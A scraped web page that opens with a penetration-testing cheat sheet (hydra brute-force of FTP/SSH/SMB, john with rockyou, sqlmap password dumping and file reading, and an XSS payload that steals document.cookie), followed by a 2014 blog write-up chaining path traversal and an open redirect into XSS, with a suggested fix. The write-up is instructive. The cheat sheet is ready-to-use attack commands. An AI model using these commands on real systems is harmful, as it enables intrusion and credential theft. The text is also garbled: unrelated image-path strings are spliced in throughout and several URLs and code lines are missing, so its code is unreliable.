oscanner -s <ip> -r<repfile>Oracle scanner


hydra -L users -P passwords -M 21.txt ftpBrute ftp
hydra -L users -P passwords -M 22.txt sshBrute ssh
hydra -L users -P passwords -M 445.txt smbBrute smb

User List


john --wordlist=/usr/share/wordlists/rockyou.txt hashesJTR defaultdocument.write('<img src="' + document.cookie + '" />)XSS steal cookie
sqlmap -u <target> -p PARAM --data=POSTDATA --cookie=COOKIE --level=3 --current-user --current-db --passwords --file-read="/var/www/test.php"Targeted scan
sqlmap -u --forms --batch --crawl=10 --cookie=jsessionid=12345 --level=5 --risk=3Automated scan

Wednesday 26 November 2014

Traversal to Redirect to Remote JS XSS

I recently came across an interesting snippet of Javascript that looked exploitable but the path to exploitation wasn't that obvious. This post will be about how I achieved a working XSS.

The Code

Thevulnerable page was loaded with a URL something like this:
And contained Javascript looking something like this:
var country =;
var s = document.createElement('script');
var src = '/js/timezone-js/timezone-data[' + country + '].min.js';
s.src = src;

Can you spot how to exploit it? :)


In a nutshell the JS appends a new <script> element to the <head> element. The user is able to modify the country part of the script element as this is retrieved from the URL parameter "c".

Once the above script runs you end up withsomething like:
<script src="/js/timezone-js/timezone-data[test].min.js"></script>
So how can we exploit this?

From Text to Traversal

In terms of regular inline XSS there are two potential injection points, either directly in the JS or within the HTML output. In this instance neither work because of the way the input is handled and encoding.We can however use path traversal to load any JS file on the server. For example, to load a legitimate file with traversal we could do this:[UK.min.js]?

But we still have no way to load our own JS...or do we?

From Traversal to Dead End?

The easiest way to get JS execution from the traversal would have been to locate an upload feature or error message on the same domain that allowed the user to control the first few bytes of the response. This would have allowed the inclusion of a JS payload that could have been accessed through the traversal.

For example:
Unfortunately I couldn't find such a place....but I did have an open redirection I could play with.

From Redirection to JS

The open redirection was pretty standard something like:
Open redirection is often classed as medium/low risk but in this instance it was the final piece of the XSS puzzle as it would allow us to redirect a browser offsite tograb remote JS.

Combining the traversal and redirection the complete attack URL was:Which would cause the in-page JS to create a script tag that would load our malicious remote JS:
<script src="/../../../../accounts/logout/?next=].min.js"><script>

Congratulations you've achieved XSS by loading remote JS from traversal and redirection!

The Fix

I definitely think this functionality could have been handled in a cleaner way using server-side code. A quick fix though would have been to whitelist the country parameter to prevent path traversal.
country = country.replace(/[^\w\-]/g, '');Final Thoughts

I really enjoyed exploiting this issue as it involved stringing multiple flaws together to achieve a working XSS which at first glance didn't seem possible. I guess the moral of the story is always think outside the box and don'twrite sloppy Javascript :)

If you have any questions or feedback just drop me a comment below. Pwndizzle out.